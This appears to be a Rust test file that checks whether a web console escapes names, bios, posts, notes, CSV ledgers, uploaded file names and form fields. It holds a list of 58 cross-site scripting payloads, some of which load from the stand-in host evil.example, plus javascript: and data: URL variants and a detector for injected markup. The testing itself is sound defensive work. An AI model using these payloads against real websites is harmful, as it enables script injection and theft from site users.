//! What people and pages write to become markup, script or a way elsewhere: none of it ever does, wherever it is shown.

use scraper::{Html, Selector};
use wanglou::model::account::{Account, Post, Verification};

use crate::http::Answer;
use crate::world::{Client, World, account, manager, world};

/// Texts that break out of an element, an attribute, a comment, a script or a style where something is not escaped.
const PAYLOADS: [&str; 58] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onfocus=alert(1) autofocus=\"",
    "' onfocus=alert(1) autofocus='",
    "\" onmouseover=\"alert(1)",
    "` onmouseover=alert(1) `",
    "x onclick=alert(1) ",
    "<x onclick=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src=\"x\"\"onerror=alert(1)>",
    "<image href=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<frameset onload=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    "<applet code=x>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>",
    "<button formaction=//evil.example>x",
    "<style>@import'//evil.example'</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "＜script＞alert(1)＜/script＞<img/src/onerror=alert(1)>",
    "{{ 7*7 }}${7*7}<x>\u{202e}gnp.exe",
];

/// Elements that no page of the console has, and those that it has with nothing but our own addresses.
const FOREIGN: &str = "iframe, frame, frameset, object, embed, applet, base, style, svg, math, image, video, audio, marquee, noscript, \
    template, x, b > b, meta[http-equiv], script:not([src='/console.js']), link:not([href='/style.css']):not([href='/console.css']), \
    img:not(.mark):not(.screenshot):not(.qr)";

/// What of a page is not ours.
fn foreign(page: &str) -> Vec<String> {
    let page = Html::parse_document(page);
    let elements = page.select(&Selector::parse(FOREIGN).unwrap()).map(|element| element.html()).collect::<Vec<_>>();
    let all = Selector::parse("*").unwrap();
    let attributes = page
        .select(&all)
        .flat_map(|element| element.value().attrs().map(|(name, value)| (name.to_owned(), value.to_owned())));
    let leads = ["href", "src", "action", "formaction", "srcdoc", "data", "xlink:href"];
    let is_foreign = |(name, value): &(String, String)| {
        let value = value.trim().to_ascii_lowercase();
        let is_own = value.starts_with('/') && !value.starts_with("//")
            || value.starts_with('#')
            || value.starts_with("https://forum.example/");
        name.starts_with("on") || name == "style" || (leads.contains(&name.as_str()) && !is_own && !value.is_empty())
    };
    let attributes = attributes.filter(is_foreign).map(|(name, value)| format!("{name}={value}"));
    elements.into_iter().chain(attributes).collect()
}

async fn is_ours(client: &Client<'_>, path: &str) {
    let answer = client.get(path).await;
    assert_eq!(answer.status, 200, "{path}");
    answered_as_ours(path, &answer);
}

fn answered_as_ours(what: &str, answer: &Answer) {
    let found = foreign(&answer.body);
    assert!(found.is_empty(), "{what}: {found:#?}");
}

/// A post of an account, both of which say nothing but a payload.
async fn file_said(w: &World, number: usize, payload: &str) -> String {
    let said = || payload.to_owned();
    let verification = Verification { kind: said(), text: said() };
    let author = account(&format!("{payload}{number}"), payload);
    let author = Account { bio: said(), verification, employer_field: said(), ip_region: said(), ..author };
    let post = Post {
        platform: "forum".into(),
        account: Some(author.handle.clone()),
        author_name: said(),
        url: format!("https://forum.example/p/{number}"),
        title: said(),
        text: said(),
        ..Post::default()
    };
    w.file_post(author, post, manager("XH")).await
}

fn coded(pairs: &[(&str, &str)]) -> String {
    url::form_urlencoded::Serializer::new(String::new()).extend_pairs(pairs).finish()
}

#[test]
fn what_is_foreign_is_seen_in_every_payload_that_is_not_escaped() {
    let blind: Vec<&&str> = PAYLOADS
        .iter()
        .filter(|payload| {
            let places =
                [format!("<p>{payload}</p>"), format!("<p title=\"{payload}\">"), format!("<p title='{payload}'>")];
            let more = [
                format!("<p title={payload}>"),
                format!("<title>{payload}</title>"),
                format!("<textarea>{payload}</textarea>"),
            ];
            places.iter().chain(&more).all(|page| foreign(page).is_empty())
        })
        .collect();
    assert!(blind.is_empty(), "{blind:#?}");
}

#[tokio::test]
async fn names_bios_posts_notes_and_evidence_never_become_markup() {
    let w = world().await;
    let client = w.client("xh0002").await;
    for (number, payload) in PAYLOADS.iter().enumerate() {
        let case = file_said(&w, number, payload).await;
        let path = format!("/cases/{case}");
        let noted = client.post(&format!("{path}/notes"), &coded(&[("kind", "note"), ("words", payload)])).await;
        assert_eq!(noted.status, 303, "{payload}");
        is_ours(&client, &path).await;
        is_ours(&client, &format!("{path}/inquiry?employee=XH0021")).await;
        is_ours(&client, &format!("/cases?{}", coded(&[("words", payload)]))).await;
        let id = w.shell.store.case_by_number(&case).await.unwrap().unwrap().id;
        let hash = w.shell.store.evidence_of_case(&id).await.unwrap()[0].sha256.clone();
        is_ours(&client, &format!("{path}/evidence/{hash}")).await;
    }
    for path in ["/", "/cases?state=all", "/cases?state=all&page=2", "/cases?order=newest"] {
        is_ours(&client, path).await;
    }
    let auditor = w.client("xh0012").await;
    for path in ["/audit", "/audit?actor=%3Cscript%3E&action=%22%3E%3Cx%20onclick%3D1%3E"] {
        is_ours(&auditor, path).await;
    }
}

#[tokio::test]
async fn lines_of_ledgers_and_names_of_files_never_become_markup() {
    let w = world().await;
    let mut csv = csv::Writer::from_writer(Vec::new());
    csv.write_record(["编号", "平台", "账号名", "账号ID", "公司代码", "状态"]).unwrap();
    for (number, payload) in PAYLOADS.iter().enumerate() {
        csv.write_record([&format!("O{number}"), "forum", payload, payload, "XH", "在用"]).unwrap();
    }
    let bytes = csv.into_inner().unwrap();
    std::fs::write(w.folder.path().join("watchlists/official_accounts.csv"), &bytes).unwrap();
    w.shell.reload().unwrap();
    let client = w.client("editor").await;
    is_ours(&client, "/ledgers/official_accounts").await;
    for (number, payload) in PAYLOADS.iter().enumerate() {
        is_ours(&client, &format!("/ledgers/official_accounts/line?key=O{number}")).await;
        is_ours(&client, &format!("/ledgers/official_accounts?{}", coded(&[("words", payload)]))).await;
        let name = payload.replace(['"', '\r', '\n'], "'");
        let part =
            |head: &str, body: &str| format!("--cut\r\nContent-Disposition: form-data; name={head}\r\n\r\n{body}\r\n");
        let file = format!("\"file\"; filename=\"{name}.csv\"");
        let table = format!(
            "编号,平台,{},账号ID,公司代码,状态\nO1,forum,x,x,XH,\"{}\"\n",
            payload.replace(',', " "),
            payload.replace('"', "\"\"")
        );
        let body = part("\"form_token\"", &client.form_token) + &part(&file, &table) + "--cut--\r\n";
        let headers = "Content-Type: multipart/form-data; boundary=cut\r\n";
        let answer = client.send("POST", "/ledgers/official_accounts/file", headers, &body).await;
        answered_as_ours(payload, &answer);
        if let Some(place) = answer.head.split("location: ").nth(1).and_then(|rest| rest.lines().next()) {
            is_ours(&client, place).await;
        }
    }
}

#[tokio::test]
async fn what_people_write_into_forms_never_becomes_markup() {
    let w = world().await;
    let (clerk, user, admin) = (w.client("clerk").await, w.client("xh0002").await, w.client("admin").await);
    for (number, payload) in PAYLOADS.into_iter().enumerate() {
        let asked = coded(&[
            ("kind", "know"),
            ("contact", payload),
            ("words", payload),
            ("handle", payload),
            ("platform", payload),
        ]);
        answered_as_ours(payload, &clerk.post("/requests", &asked).await);
        let wish = coded(&[
            ("employee", "XH0021"),
            ("platform", "forum"),
            ("handle", payload),
            ("account_name", payload),
            ("marks", payload),
            ("until", "2027-03-31"),
            ("purpose", payload),
            ("conditions", payload),
            ("ownership", payload),
        ]);
        answered_as_ours(payload, &user.post("/exemption-requests", &wish).await);
        answered_as_ours(
            payload,
            &admin.post("/users", &coded(&[("login", payload), ("name", payload), ("roles", "list_editor")])).await,
        );
        admin
            .post("/users", &coded(&[("login", &format!("user{number}")), ("name", payload), ("roles", "list_editor")]))
            .await;
        is_ours(&user, &format!("/sign-in?{}", coded(&[("next", payload)]))).await;
    }
    for (client, path) in [(&clerk, "/requests"), (&user, "/exemption-requests"), (&admin, "/users")] {
        is_ours(client, path).await;
    }
    for number in 1..=9 {
        is_ours(&clerk, &format!("/requests/SQ-2611-000{number}")).await;
        is_ours(&user, &format!("/exemption-requests/HM-2611-000{number}")).await;
    }
    let view = coded(&[("name", "<svg/onload=alert(1)>"), ("words", "\"><x onclick=1>")]);
    user.post("/cases/views", &view).await;
    is_ours(&user, "/cases").await;
    is_ours(&user, "/cases/views").await;
}

#[tokio::test]
async fn an_address_that_runs_a_script_is_shown_as_text_and_leads_nowhere() {
    let w = world().await;
    let client = w.client("xh0002").await;
    for (number, url) in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "//evil.example/",
    ]
    .into_iter()
    .enumerate()
    {
        let author = Account { url: url.into(), ..account(&format!("acc{number}"), "星河") };
        let post =
            Post { platform: "forum".into(), url: url.into(), account: Some(author.handle.clone()), ..Post::default() };
        let case = w.file_post(author, post, manager("XH")).await;
        let path = format!("/cases/{case}");
        assert!(client.get(&path).await.body.contains("alert(1)") || number > 2);
        is_ours(&client, &path).await;
    }
}
